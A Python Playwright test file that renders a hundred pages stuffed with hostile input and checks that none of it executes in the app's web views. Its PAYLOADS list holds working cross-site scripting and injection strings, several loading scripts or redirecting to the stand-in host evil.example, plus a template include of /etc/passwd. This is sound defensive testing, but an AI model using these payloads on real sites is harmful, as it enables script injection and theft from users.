"""A hundred pages by people who mean harm, in a browser: nothing of them runs, and the layout holds."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from ledger.samples import Written
from reportedly.ledger.joining import join
from reportedly.ledger.store import open_ledger
from reportedly.records import Judgement, Reading, Segment

PHONE = {"width": 390, "height": 844}
PAGES = 100
TAKEN = "window.taken=1"
PAYLOADS = (
    # scripts
    f"<script>{TAKEN}</script>",
    f"</script></title></textarea></style></noscript><script>{TAKEN}</script>",
    f"<!--><script>{TAKEN}</script-->",
    f"<scr<script>ipt>{TAKEN}</scr</script>ipt>",
    f"<script src=//evil.example/{TAKEN}></script>",
    # event handlers
    f'"><img src=x onerror="{TAKEN}">',
    f"'><svg/onload={TAKEN}>",
    f'" autofocus onfocus="{TAKEN}" x="',
    f"<details open ontoggle={TAKEN}>",
    f"<body onload={TAKEN}><math href=javascript:{TAKEN}>",
    # addresses and frames
    f"javascript:{TAKEN}",
    f"data:text/html,<script>parent.{TAKEN}</script>",
    f'<iframe srcdoc="<script>parent.{TAKEN}</script>">',
    '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/><form action=//evil.example/><button>",
    "//evil.example/\\\\evil.example\\@evil.example",
    # templates and markup of others
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}<%= 7 %>",
    "]]>--><![CDATA[&amp;&lt;script&gt;&#x3c;script&#62;",
    # odd Unicode and directions
    "\u202e\u2066drawkcab\u2069\u202c" + "a" + "\u0301" * 80,
    "\u202egnp.exe" + "\u2067\u2067\u2067" + "قال المتحدث",
    "\ufeff\u0000\u0007\u001b[31m\u2028\u2029\ud83d",
    "👩‍👩‍👧‍👦" * 40 + "\U0010ffff" + "𝕳" * 60,
    # huge words and deep nesting
    "w" * 4000,
    "<div>" * 400 + "</p></table></main></body></html>",
    ("&" * 300) + ("<" * 300) + ('"' * 300),
)


def hostile(number: int) -> Reading:
    """A page with one of the payloads in every field that is shown."""
    words = PAYLOADS[number % len(PAYLOADS)].encode("utf-8", "replace").decode() + f" {number}"
    said = f"{words} said 5 were killed in {words}"
    text = f"{said}\n{words} caption\n{words} comment of a reader"
    first, second = len(said), len(said) + 1 + len(f"{words} caption")
    page = Written(
        text, f"{number}-{words}", title=words, publisher=words, url=words, authors=(words,),
        published="2022-01-06", language="en",
        segments=(
            Segment("paragraph", 0, first),
            Segment("caption", first + 1, second, words),
            Segment("comment", second + 1, len(text), words, words),
        ),
    )  # fmt: skip
    place = page.place("5 were", name=words, latitude=40 + number / 50)
    claim = page.claim("5 were killed", words, words, channel=(words,), distance=words)
    event = page.event("were killed", "ASSAULT", "killed", place=place.id, claim=claim.id)
    page.figure(
        "5", "killed", 5 + number % 7, 5 + number % 7, group=words, event=event.id, claim=claim.id,
        place=place.id,
    )  # fmt: skip
    return page.reading()


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.ledger"
    with open_ledger(path) as ledger:
        ledger.file([hostile(number) for number in range(PAGES)])
        join(ledger)
    return path


def addresses(path: Path) -> Iterator[str]:
    """Every document, a page of each other kind for every payload, and all tables."""
    with open_ledger(path, read_only=True) as ledger:
        for document in ledger.documents():
            yield f"/documents/{quote(document.id, safe='')}"
        for number in range(len(PAYLOADS)):
            name = quote(hostile(number).claims[0].claimant.name, safe="")  # type: ignore[union-attr]
            yield f"/claimants/{name}"
            yield f"/outlets/{name}"
        for table, kind in (("occurrences", "occurrences"), ("figures", "figures"), ("claims", "claims")):
            for row in ledger.ask(f"SELECT id FROM {table} LIMIT 12"):
                yield f"/{kind}/{row[0]}"
        for row in ledger.ask("SELECT id FROM contradictions LIMIT 6"):
            yield f"/contradictions/{row[0]}"
    for kind in ("claims", "figures", "occurrences", "contradictions", "documents", "claimants", "outlets"):
        yield from (f"/{kind}?page={page}" for page in (1, 2, 3, 4))
    yield from ("/", "/review", "/export", "/about", "/claims?q=killed&place=%22%3E%3Cscript%3E")


def test_nothing_of_a_hundred_hostile_pages_runs(
    quiet: Page, hostile_ledger: Path, serve: Callable[..., str]
) -> None:
    site = serve(hostile_ledger, "--reviewer", f"<script>{TAKEN}</script>")
    quiet.set_viewport_size(PHONE)  # type: ignore[arg-type]
    seen = 0
    for address in addresses(hostile_ledger):
        quiet.goto(site + address)
        told = quiet.evaluate(
            "({taken: window.taken, wide: document.documentElement.scrollWidth - innerWidth,"
            " strange: document.querySelectorAll('main :is(img, iframe, script, object, embed, base, meta,"
            " link, style, svg[onload], [onerror], [onfocus], [ontoggle])').length,"
            " at: location.origin, whole: !!document.querySelector('main + footer')})"
        )
        assert told == {"taken": None, "wide": 0, "strange": 0, "at": site, "whole": True}, address
        seen += address.startswith("/documents/")
    assert seen == PAGES


def test_a_decision_on_a_hostile_page_is_taken_like_any_other(
    quiet: Page, hostile_ledger: Path, serve: Callable[..., str]
) -> None:
    site = serve(hostile_ledger, "--reviewer", "ana")
    quiet.goto(f"{site}/review")
    quiet.keyboard.press("c")
    quiet.locator("[name=why]").fill(PAYLOADS[5])
    quiet.keyboard.press("Escape")
    quiet.get_by_role("button", name="Accept").click()
    expect(quiet.locator(".counts")).to_contain_text("1 decided")
    assert quiet.evaluate("window.taken") is None
    with open_ledger(hostile_ledger, read_only=True) as ledger:
        assert [each.reason for each in ledger.records(Judgement)][-1] == PAYLOADS[5]
